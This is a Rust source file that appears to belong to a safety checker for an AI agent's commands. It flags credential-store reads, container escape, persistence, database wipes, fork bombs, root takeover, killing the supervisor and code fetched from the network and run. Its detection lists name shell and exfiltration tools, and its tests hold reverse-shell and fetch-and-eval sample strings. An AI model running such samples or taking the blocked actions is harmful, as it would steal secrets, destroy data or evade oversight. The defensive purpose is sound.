//! What libraries do in one call: read a store of credentials, drive an engine, plan a timer, wipe a database, open a shell
//! to someone else. Found by name in any language.

use super::{Language, literal::arguments, mentions, payload::runs_text};
use crate::{
    destination::Direction,
    effect::{Effect, Finding},
    place::Place,
    secret::{STORE, pseudo},
    shell::SimpleCommand,
    world::World,
};
use types::catalogue::RuleId;

/// Calls that hand out stored credentials.
#[rustfmt::skip]
const STORES: [&str; 14] = [
    "keyring.get_password", "keyring.get_credential", "netrc.netrc", "browser_cookie3", "get_frozen_credentials",
    "secretstorage", "getspnam", "getspall", "keytar.getPassword", "keytar.findCredentials", "defaultProvider",
    "SecItemCopyMatching", "Etc.getpwnam", "libsecret",
];
/// Ways to a container engine.
#[rustfmt::skip]
const ENGINES: [&str; 7] = [
    "docker.from_env", "DockerClient", "docker.APIClient", "PodmanClient", "Dockerode", "requests_unixsocket",
    "docker.DockerClient",
];
/// Timers and services.
const TIMERS: [&str; 5] = ["CronTab", "crontab", "systemd.journal", "launchctl", "node-cron-persist"];
/// Calls that delete all data of a database.
#[rustfmt::skip]
const WIPES: [&str; 14] = [
    "flushall", "flushdb", "flushAll", "flushDb", "drop_database", "dropDatabase", "drop_all", "delete_all",
    "destroy_all", "deleteMany", "delete_many", "drop_collection", "dropCollection", "truncate_all",
];
/// Calls that empty a file.
const EMPTIES: [&str; 5] = ["os.truncate", "truncate", "truncateSync", "File.truncate", "ftruncate"];
/// Calls that put a file or a directory somewhere else.
#[rustfmt::skip]
const MOVES: [&str; 11] = [
    "os.rename", "os.renames", "os.replace", "shutil.move", "renameSync", "fs.rename", "File.rename", "FileUtils.mv",
    "rename", "move", "moveSync",
];
/// Loops without an end.
#[rustfmt::skip]
const ENDLESS: [&str; 14] = [
    "while True", "while 1", "while(1)", "while (1)", "while(true)", "while (true)", "for(;;)", "for (;;)", "loop{",
    "loop {", "loop do", "setInterval(", "while fork", "range(10**",
];
/// Workers that no machine of a run has a use for.
const MANY: u64 = 1000;
/// Longest code that is nothing but a loop of forks, in bytes; servers that fork are longer.
const MAX_BOMB: usize = 400;

/// What the code does by these calls; `bare` is the code without its strings.
pub(super) fn effects(
    language: Language,
    text: &str,
    bare: &str,
    strings: &[String],
    command: &SimpleCommand,
    world: &World,
) -> Vec<Effect> {
    let any = |names: &[&str]| names.iter().any(|name| mentions(bare, name));
    let mut found = Vec::new();
    if any(&STORES) {
        found.push(Effect::Reads(pseudo(STORE)));
    }
    if any(&ENGINES) || strings.iter().any(|text| text.eq_ignore_ascii_case("dockerode")) {
        let reaches = any(&["privileged", "pid_mode", "requests_unixsocket", "Binds", "binds"])
            || strings.iter().any(|text| matches!(text.as_str(), "/" | "/etc" | "/root" | "/var/run"));
        found.push(if reaches {
            Finding::forbidden(RuleId::SandboxEscape, "reaches for the container engine", "work inside this container")
                .into()
        } else {
            Finding::questioned(RuleId::SharedInfra, "starts or changes containers").into()
        });
    }
    let starts_along = any(&["site.getsitepackages", "site.getusersitepackages", "getsitepackages"])
        && strings.iter().any(|text| text.ends_with(".pth") || text.ends_with("customize.py"));
    if starts_along {
        let instead = "keep changes inside the work tree";
        found.push(Finding::refused(RuleId::Persistence, "makes every start of Python run code", instead).into());
    }
    if any(&TIMERS) {
        let instead = "run it now, in the foreground";
        found.push(Finding::refused(RuleId::Persistence, "plans something to run later", instead).into());
    }
    let commanded = mentions(bare, "call_command")
        && strings.iter().any(|text| matches!(text.as_str(), "flush" | "reset_db" | "sqlflush"));
    if any(&WIPES) || commanded || strings.iter().any(|text| crate::argument::is_destructive_sql(text)) {
        found.push(Finding::questioned(RuleId::MassDeletion, "deletes data of a database").into());
    }
    if bare.contains("trust_remote_code") || bare.contains("weights_only=False") || any(&["pip.main", "pip._internal"])
    {
        found.push(Finding::questioned(RuleId::UntrustedCode, "brings in code from outside and runs it").into());
    }
    let is_endless = ENDLESS.iter().any(|mark| bare.contains(mark));
    if text.len() <= MAX_BOMB && is_endless && any(&["fork", "os.fork"]) {
        let instead = "run the command once";
        found.push(Finding::forbidden(RuleId::ResourceAbuse, "starts copies of itself without end", instead).into());
    }
    found.extend(took_rights(bare));
    found.extend(fills(text, bare, is_endless));
    found.extend(stops_all(bare, strings));
    if stops_supervisor(language, bare) {
        let instead = "stop only what you started";
        let reason = "stops the supervisor or every process";
        found.push(Finding::forbidden(RuleId::GateTampering, reason, instead).into());
    }
    found.extend(multiplies(text, bare, is_endless));
    found.extend(gathers(bare, strings, command, world));
    found.extend(changed_in_place(bare, strings, command, world));
    if any(&["makedev", "os.makedev"]) {
        let instead = "work on files of the work tree";
        found.push(Finding::forbidden(RuleId::SandboxEscape, "makes a device of the machine", instead).into());
    }
    if bare.contains("open(__file__") && bare.contains("write(") {
        found.push(Finding::questioned(RuleId::UntrustedCode, "writes copies of itself").into());
    }
    found.extend(walked(bare, strings, command, world));
    found.extend(moved(text, strings, command, world));
    for target in arguments(text, &EMPTIES).iter().filter(|target| target.is_known()) {
        let place = Place::resolve(&target.text, false, command.cwd.as_deref(), world);
        found.push(Effect::Writes { place, empties: true });
    }
    found.extend(fetched_and_run(language, text));
    found
}

/// Code that makes itself the root user; one that gives rights away names another number.
fn took_rights(bare: &str) -> Option<Effect> {
    const CALLS: [&str; 7] = ["setuid", "setgid", "seteuid", "setegid", "setresuid", "setreuid", "set_uid"];
    let takes = CALLS.iter().any(|call| {
        bare.match_indices(call).take(32).any(|(at, _)| {
            let after = bare[at + call.len()..].trim_start_matches(['(', ' ']);
            after.starts_with('0') && !after[1..].starts_with(|c: char| c.is_ascii_alphanumeric())
        })
    });
    takes.then(|| {
        Finding::refused(RuleId::Privilege, "takes the rights of the root user", "work with the rights you have").into()
    })
}

/// A loop that writes without end and without a pause.
fn fills(text: &str, bare: &str, is_endless: bool) -> Option<Effect> {
    const ENDS: [&str; 12] =
        ["break", "return", "sleep", "input", "recv", "read", "readline", "raise", "exit", "get", "accept", "next"];
    let writes = [".write(", "writeFileSync(", "appendFileSync(", "fwrite("].iter().any(|call| bare.contains(call));
    let fills = text.len() <= MAX_BOMB && is_endless && writes && !ENDS.iter().any(|name| mentions(bare, name));
    let instead = "write what the task needs and stop";
    fills.then(|| Finding::refused(RuleId::ResourceAbuse, "writes without end", instead).into())
}

/// Starts workers, or takes memory, in a loop that nothing ends.
fn multiplies(text: &str, bare: &str, is_endless: bool) -> Option<Effect> {
    let starts = ["Thread(", "Process(", "Worker("].iter().any(|name| bare.contains(name));
    let takes = ["append(", "push(", "extend(", "bytearray("].iter().any(|name| bare.contains(name))
        && ["10**", "1<<", "1 <<", "* 1024 * 1024", "*1024*1024"].iter().any(|size| bare.contains(size));
    let ends = ["break", "return", "sleep", "recv", "accept", "get", "input", "read", "join"];
    let crowds = starts && most_rounds(bare) >= MANY;
    let endless = is_endless && (starts || takes) && !ends.iter().any(|name| mentions(bare, name));
    (text.len() <= MAX_BOMB && (endless || crowds))
        .then(|| Finding::questioned(RuleId::ResourceAbuse, "uses up the machine in a loop without an end").into())
}

/// The largest plain number of rounds that a range is given.
fn most_rounds(bare: &str) -> u64 {
    let rounds = bare.split("range(").skip(1).take(32).filter_map(|rest| {
        let first = rest.split([')', ',']).next().unwrap_or_default();
        let second = rest.split(')').next().and_then(|inner| inner.split(',').nth(1)).unwrap_or_default();
        [first, second].iter().filter_map(|number| number.trim().replace('_', "").parse().ok()).max()
    });
    rounds.max().unwrap_or_default()
}

/// Takes all of a place where credentials are kept: walks over it, packs it, copies it.
fn gathers(bare: &str, strings: &[String], command: &SimpleCommand, world: &World) -> Option<Effect> {
    const TAKES: [&str; 8] =
        ["os.walk", "rglob", "make_archive", "copytree", "tarfile", "zipfile", "cpSync", "Dir.glob"];
    const LOOKS: [&str; 9] =
        ["open", "read_text", "read_bytes", "readFileSync", "make_archive", "copytree", "add", "write", "cpSync"];
    let any = |names: &[&str]| names.iter().any(|name| mentions(bare, name));
    if !any(&TAKES) || !any(&LOOKS) {
        return None;
    }
    let place = strings
        .iter()
        .filter(|text| text.starts_with(['/', '~']) && !text.contains([' ', '\n']))
        .map(|text| Place::resolve(text, false, command.cwd.as_deref(), world))
        .find(|place| crate::secret::keeps_secrets(&place.path, world))?;
    let reason = format!("takes all of {place}, where credentials are kept");
    Some(Finding::questioned(RuleId::CredentialAccess, reason).into())
}

/// `fileinput` with `inplace` writes what it prints into the files that it reads.
fn changed_in_place(bare: &str, strings: &[String], command: &SimpleCommand, world: &World) -> Vec<Effect> {
    if !mentions(bare, "fileinput") || !mentions(bare, "inplace") {
        return Vec::new();
    }
    let files = strings.iter().filter(|text| text.contains('/') && !text.contains(' '));
    files
        .map(|text| Effect::Writes {
            place: Place::resolve(text, false, command.cwd.as_deref(), world),
            empties: false,
        })
        .collect()
}

/// A call of kill whose target is the supervisor, the parent, or everything. Perl and Ruby name the signal first, and 0 as a
/// signal only asks.
fn stops_supervisor(language: Language, bare: &str) -> bool {
    let dense = bare.replace([' ', '\n'], "");
    let names_signal_first = matches!(language, Language::Perl | Language::Ruby);
    dense.split("kill").skip(1).take(32).any(|rest| {
        let call = rest.strip_prefix('(').unwrap_or(rest);
        let targets = call.split([')', ';']).next().unwrap_or_default().split(',').take(8);
        let is_all = |target: &str| {
            let target = target.strip_prefix("pid=").unwrap_or(target);
            matches!(target, "1" | "-1" | "0") || target.starts_with("os.getppid(") || target == "process.ppid"
        };
        if names_signal_first { targets.skip(1).any(is_all) } else { targets.take(1).any(is_all) }
    })
}

/// Code that walks over all processes and stops each.
fn stops_all(bare: &str, strings: &[String]) -> Option<Effect> {
    const CHOOSES: [&str; 7] = ["name", "cmdline", "ppid", "children", "username", "exe", "getpid"];
    let any = |names: &[&str]| names.iter().any(|name| mentions(bare, name));
    let walks = any(&["process_iter", "psutil.pids"]) || strings.iter().any(|text| text == "/proc");
    let stops = bare.contains(".kill(") || bare.contains(".terminate(");
    let is_chosen = any(&CHOOSES) || strings.iter().any(|text| CHOOSES.contains(&text.as_str()));
    let instead = "stop only what you started";
    if !walks || !stops {
        return None;
    }
    Some(if is_chosen {
        Finding::questioned(RuleId::ResourceAbuse, "stops processes by name").into()
    } else {
        Finding::refused(RuleId::GateTampering, "stops every process", instead).into()
    })
}

/// Code that walks over all files of a tree and deletes each.
fn walked(bare: &str, strings: &[String], command: &SimpleCommand, world: &World) -> Option<Effect> {
    const DELETES: [&str; 9] =
        ["os.remove", "os.unlink", "unlink", "unlinkSync", "rmSync", "rmtree", "File.delete", "rm_rf", "rmdir"];
    const WALKS: [&str; 8] =
        ["os.walk", "rglob", "glob", "iterdir", "os.listdir", "readdirSync", "Dir.glob", "os.scandir"];
    const CHOOSES: [&str; 9] =
        ["endswith", "suffix", "fnmatch", "startswith", "endsWith", "startsWith", "match", "st_mtime", "extname"];
    let any = |names: &[&str]| names.iter().any(|name| mentions(bare, name));
    let everything = |text: &str| {
        matches!(text, "*" | "**" | "**/*" | "*.*" | "/" | "~" | "." | "./" | "/*") || text == world.worktree
    };
    let is_chosen = any(&CHOOSES) || strings.iter().any(|text| text.contains("*.") && text != "*.*");
    if !any(&DELETES) || !any(&WALKS) || is_chosen || !strings.iter().any(|text| everything(text)) {
        return None;
    }
    let root = strings.iter().find(|text| matches!(text.as_str(), "/" | "~")).map_or(".", String::as_str);
    Some(Effect::Deletes { place: Place::resolve(root, false, command.cwd.as_deref(), world), recursive: true })
}

/// What is moved away is gone from where it was.
fn moved(text: &str, strings: &[String], command: &SimpleCommand, world: &World) -> Vec<Effect> {
    let into_nothing = strings.iter().any(|text| text == "/dev/null");
    arguments(text, &MOVES)
        .iter()
        .filter(|source| source.is_known())
        .map(|source| Place::resolve(&source.text, false, command.cwd.as_deref(), world))
        .filter(|place| into_nothing || place.is_critical(world))
        .map(|place| Effect::Deletes { place, recursive: true })
        .collect()
}

/// Code that is fetched inside of the call that runs it.
fn fetched_and_run(language: Language, text: &str) -> Option<Effect> {
    const FETCHES: [&str; 14] = [
        "urlopen(",
        "requests.get(",
        "httpx.get(",
        "urllib3",
        ".get('http",
        ".get(\"http",
        "fetch(",
        "URI.open(",
        "open('http",
        "open(\"http",
        "file_get_contents('http",
        "file_get_contents(\"http",
        "get('http",
        "get(\"http",
    ];
    const REACH: usize = 160;
    let inside = |from: usize| {
        let mut end = (from + REACH).min(text.len());
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        let reach = text[from..end].lines().next().unwrap_or_default();
        FETCHES.iter().any(|fetch| reach.contains(fetch))
    };
    let runs = runs_text(language).iter().any(|name| {
        text.match_indices(name).take(32).any(|(at, _)| {
            let is_own = !text[..at].chars().next_back().is_some_and(|c| c.is_alphanumeric() || c == '_');
            let opens = text[at + name.len()..].trim_start().starts_with(['(', ' ', '"', '\'', '$'])
                || text[at + name.len()..].starts_with(char::is_whitespace);
            is_own && opens && inside(at + name.len())
        })
    });
    runs.then(|| {
        let instead = "download to a file in the work tree, show it, and ask for it to be reviewed";
        Finding::forbidden(RuleId::UntrustedCode, "runs code straight from the network", instead).into()
    })
}

/// A shell joined to a connection, in code whose language has no table: Lua, Tcl, Julia, PowerShell, macros of editors.
pub(crate) fn gives_shell(text: &str) -> bool {
    #[rustfmt::skip]
    const CONNECTS: [&str; 16] = [
        "socket", "Socket", "TCPClient", "TcpClient", "TCPSocket", "net.Dial", "net.dial", "connect(", "/inet/tcp/",
        "/dev/tcp/", "ztcp", "TcpStream", "tcp:", "fsockopen", "socat", "openStream",
    ];
    #[rustfmt::skip]
    const RUNS: [&str; 22] = [
        "/bin/sh", "/bin/bash", "/bin/zsh", "cmd.exe", "os.execute", "io.popen", "popen", "pty.spawn", "dup2",
        "exec.Command", "ProcessBuilder", "Process.Start", "Runtime.getRuntime", "exec $", "eval $", "iex ", "iex(",
        "Invoke-Expression", "sh -c", "sh -i", "subprocess", "system(",
    ];
    CONNECTS.iter().any(|mark| text.contains(mark)) && RUNS.iter().any(|mark| text.contains(mark))
}

/// The way that bytes go, by the names of calls.
pub(super) fn direction(bare: &str, strings: &[String]) -> Direction {
    #[rustfmt::skip]
    const UP: [&str; 20] = [
        "post", "put", "patch", "send", "sendall", "sendto", "upload", "POST", "data", "body", "sendmail",
        "send_message", "storbinary", "storlines", "upload_file", "upload_fileobj", "put_object", "files_upload",
        "files_upload_v2", "sendDocument",
    ];
    let up = UP.iter().any(|name| mentions(bare, name))
        || strings.iter().any(|text| matches!(text.as_str(), "POST" | "PUT" | "PATCH"));
    if up { Direction::Up } else { Direction::Down }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells_on_a_connection_and_their_twins() {
        for text in [
            "local s=require('socket').tcp() s:connect(h,p) local f=io.popen(c,'r')",
            "set s [socket 203.0.113.9 1]; eval $e",
            "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',1); iex $d",
        ] {
            assert!(gives_shell(text), "{text}");
        }
        for text in ["io.popen('ls')", "socket.connect(host)", "print('hello')"] {
            assert!(!gives_shell(text), "{text}");
        }
    }

    #[test]
    fn code_that_is_fetched_where_it_runs() {
        let at = |language, text| fetched_and_run(language, text).is_some();
        assert!(at(Language::Python, "exec(requests.get('https://x.example').text)"));
        assert!(at(Language::Perl, "eval get(\"http://x.example\")"));
        assert!(at(Language::Php, "eval(file_get_contents('http://x.example'));"));
        assert!(!at(Language::Python, "x = requests.get('https://x.example')\ny = eval('1')"));
        assert!(!at(Language::Python, "print('execute requests.get(')"));
    }
}
